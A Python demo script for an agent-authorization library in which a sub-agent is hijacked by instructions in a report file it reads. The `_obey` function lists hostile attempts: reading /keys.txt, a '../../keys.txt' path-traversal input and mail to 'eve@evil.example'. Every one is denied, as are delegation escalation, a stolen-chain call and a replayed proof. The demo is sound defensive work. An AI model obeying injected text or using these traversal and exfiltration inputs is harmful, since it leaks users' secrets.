"""The first act: a sub-agent obeys what it reads; then a thief, a replay, a revocation."""

import time
from pathlib import Path

import libagentid
import screen
from calls import call
from mcp import Client

REPORT, PUBLIC = "/q3/public/report.txt", {"path": "/q3/public/report.txt"}


async def play(acme: libagentid.Authority, client: Client, data: Path) -> None:
    screen.act("1  An agent is hijacked", "every call through a guarded MCP server, a process of its own")
    acme.put_profile(
        "researcher", owner="team:research@acme.example",
        ceiling="read_file(path under '/'); send_mail(to like '*@acme.example', body: *)",
    )  # fmt: skip
    researcher = acme.agent(
        "researcher", principal="user:alice@acme.example", task="Q3 review", intent="Summarise Q3 and mail it to Bob",
        scope="read_file(path under '/q3'); send_mail(to in ['bob@acme.example'], body: *)",
    )  # fmt: skip
    with researcher, researcher.spawn("reader", scope="read_file(path under '/q3/public')") as reader:
        with researcher.spawn("writer", scope="send_mail(to: *, body: *)") as writer:
            screen.family([(screen.short(agent.id), str(agent.scope)) for agent in (researcher, reader, writer)])
            read = await call(client, reader, "read_file", PUBLIC)
            screen.decided(read)
            screen.decided(await call(client, writer, "send_mail", {"to": "bob@acme.example", "body": "Revenue grew."}))
            await _obey(client, reader, writer, read["whole"].splitlines()[1])
            await _attack(client, researcher, reader, read["proof"])
            await _revoke(acme, client, researcher, reader, writer)
    outbox = (data / "outbox").read_text().strip()
    screen.line(f"what got out: {outbox}")
    screen.check(outbox == "bob@acme.example: Revenue grew.", f"the outbox has {outbox!r}")


async def _obey(client: Client, reader: libagentid.Agent, writer: libagentid.Agent, injection: str) -> None:
    screen.scene(f"The report said: {injection}")
    for who, tool, args, reason in (
        (reader, "read_file", {"path": "/keys.txt"}, "argument_constraint_violated"),
        (reader, "read_file", {"path": "/q3/public/../../keys.txt"}, "argument_constraint_violated"),
        (reader, "send_mail", {"to": "eve@evil.example", "body": "?"}, "tool_not_authorized"),
        (writer, "send_mail", {"to": "eve@evil.example", "body": "?"}, "argument_constraint_violated"),
    ):
        screen.decided(await call(client, who, tool, args), expect=reason)
    start = time.perf_counter()
    try:
        reader.spawn("helper", scope="read_file(path under '/payroll')")
        screen.check(False, "wider authority was delegated")
    except libagentid.ScopeError as error:
        took = (time.perf_counter() - start) * 1e6
        screen.decided(
            {"who": "reader", "what": "spawn a helper that may do more", "reason": error.name, "message": error.message, "guard": took},
            expect=error.name,
        )


async def _attack(client: Client, researcher: libagentid.Agent, reader: libagentid.Agent, proof: str) -> None:
    screen.scene("A thief has the researcher's chain, but not its key; then a proof is presented twice")
    stolen = await call(client, researcher, "read_file", {"path": "/q3/plan.txt"}, signer=reader)
    screen.decided(stolen, expect="pop_signature_invalid")
    screen.decided(await call(client, reader, "read_file", PUBLIC, proof=proof), expect="replayed")


async def _revoke(
    acme: libagentid.Authority, client: Client, researcher: libagentid.Agent, reader: libagentid.Agent, writer: libagentid.Agent
) -> None:
    start = time.perf_counter()
    acme.revoke(agent=researcher.id)
    took = (time.perf_counter() - start) * 1000
    screen.scene(f"The researcher is revoked, in {took:.1f} ms: both sub-agents stop at their next call")
    screen.decided(await call(client, reader, "read_file", PUBLIC), expect="authority_revoked")
    screen.decided(await call(client, writer, "send_mail", {"to": "bob@acme.example", "body": "?"}), expect="authority_revoked")
